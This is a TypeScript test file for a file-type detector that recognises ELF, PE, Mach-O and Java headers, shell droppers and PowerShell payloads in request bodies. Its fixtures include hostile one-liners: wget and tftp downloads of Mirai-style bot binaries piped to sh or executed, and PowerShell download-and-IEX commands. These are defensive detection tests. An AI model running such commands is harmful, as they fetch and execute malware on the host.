// body-magic: one file-type check for any protocol's body head (ELF with CPU, PE, Mach-O, scripts).
import { describe, expect, it } from 'vitest';
import { bodyMagic, elfArch } from '../../gateway/app/http/body-magic.js';
import { elfBody, peBody } from './app-test-kit.js';

const text = (s: string): Buffer => Buffer.from(s, 'latin1');
const magic = (b: Buffer): ReturnType<typeof bodyMagic> => bodyMagic(b, 0, b.length);

describe('bodyMagic', () => {
  it('ELF, with its CPU in either byte order', () => {
    expect(magic(elfBody(0x28, true, 64))).toBe('elf');
    expect(elfArch(elfBody(0x28, true))).toBe('arm');
    expect(elfArch(elfBody(0x08, false))).toBe('mips');
    expect(elfArch(elfBody(0x3e, true))).toBe('x86-64');
    expect(elfArch(elfBody(0x1234, true))).toBe('unknown(4660)');
    expect(elfArch(elfBody(0x28, true).subarray(0, 19))).toBe('unknown');
    expect(elfArch(Buffer.concat([Buffer.alloc(3), elfBody(0xb7, true)]), 3)).toBe('aarch64');
  });

  it('PE: MZ alone when e_lfanew lies past the head, "PE\\0\\0" checked when it lies inside', () => {
    expect(magic(peBody(0x80).subarray(0, 64))).toBe('pe');
    expect(magic(peBody(0x80))).toBe('pe');
    const bad = peBody(0x80);
    bad.write('XX', 0x80, 'latin1');
    expect(magic(bad)).toBeNull();
    expect(magic(peBody(0x80).subarray(0, 63))).toBeNull(); // shorter than a DOS header
    const huge = peBody(0x80, 64);
    huge.writeUInt32LE(0xfffffff0, 0x3c); // e_lfanew far away: never read
    expect(magic(huge)).toBe('pe');
  });

  it('Mach-O thin (both byte orders, 32/64-bit) and fat; a Java class file is not Mach-O', () => {
    for (const m of [0xfeedface, 0xfeedfacf, 0xcefaedfe, 0xcffaedfe]) {
      const b = Buffer.alloc(32);
      b.writeUInt32BE(m, 0);
      expect(magic(b)).toBe('macho');
    }
    const fat = Buffer.alloc(32);
    fat.writeUInt32BE(0xcafebabe, 0);
    fat.writeUInt32BE(2, 4);
    expect(magic(fat)).toBe('macho');
    fat.writeUInt32BE(52, 4); // class file, major version 52
    expect(magic(fat)).toBe('java');
  });

  it.each([
    '#!/bin/sh\ncd /tmp; wget http://x/a.arm', '#!/bin/busybox sh\n', '#! /usr/bin/env bash\n', '#!/bin/bash\r\n',
    'cd /tmp || cd /var/run; wget http://198.51.100.7/bins/mirai.arm7', '  wget http://x/y -O- | sh', 'curl -O http://x/y',
    'tftp -g -r mips 198.51.100.7', 'busybox wget http://x', 'chmod +x bot; ./bot', 'CD /TMP; WGET http://x',
  ])('shell dropper: %j', (s) => {
    expect(magic(text(s))).toBe('shell');
  });

  it.each([
    'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'powershell.exe -nop -w hidden -e aQBlAHgA', 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
    '$c = New-Object System.Net.WebClient; $c.DownloadString("http://x")', 'Invoke-Expression $payload',
  ])('PowerShell: %j', (s) => {
    expect(magic(text(s))).toBe('powershell');
  });

  it.each([
    '<html><body>hello</body></html>', '{"ok":true}', 'MZ', 'cd /home/user', '',
  ])('nothing: %j', (s) => {
    expect(magic(text(s))).toBeNull();
  });

  it('reads only [off, end)', () => {
    const b = Buffer.concat([text('xx'), elfBody(0x28, true, 20)]);
    expect(bodyMagic(b, 2, 5)).toBeNull(); // three bytes of the magic are not enough
    expect(bodyMagic(b, 2, 6)).toBe('elf');
    expect(bodyMagic(b, -1, 6)).toBeNull();
    expect(bodyMagic(b, 2, 999)).toBe('elf');
  });
});
